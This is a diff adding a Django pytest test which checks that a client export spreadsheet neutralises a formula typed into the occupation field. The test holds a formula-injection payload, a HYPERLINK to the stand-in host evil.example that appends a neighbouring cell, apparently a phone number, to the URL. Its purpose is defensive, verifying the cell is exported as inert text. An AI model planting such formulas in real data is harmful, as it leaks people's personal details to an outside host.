@@ -178,6 +178,25 @@ def test_export_is_separate_minimal_logged_and_flagged(
 
 
 @pytest.mark.django_db
+@pytest.mark.req("SEC-9")
+def test_an_export_holds_a_formula_typed_as_occupation_as_inert_text(
+    client, login, front_desk, manager
+):
+    """A hostile occupation must not run next to the phone numbers when the file is opened."""
+    hostile = '=HYPERLINK("http://evil.example/?"&F2,"点此")'
+    login(client, front_desk)
+    register(client, occupation=hostile)
+    client.logout()
+    login(client, manager)
+    response = client.post(
+        "/clients/export/", {"fields": ["code", "occupation", "phone"], "purpose": "回访"}
+    )
+    assert response.status_code == 200
+    cell = load_workbook(BytesIO(response.content)).active["B2"]
+    assert cell.data_type == "s" and cell.value == "'" + hostile
+
+
+@pytest.mark.django_db
 @pytest.mark.req("PLT-4", "STO-3")
 @pytest.mark.parametrize(
     "bad",
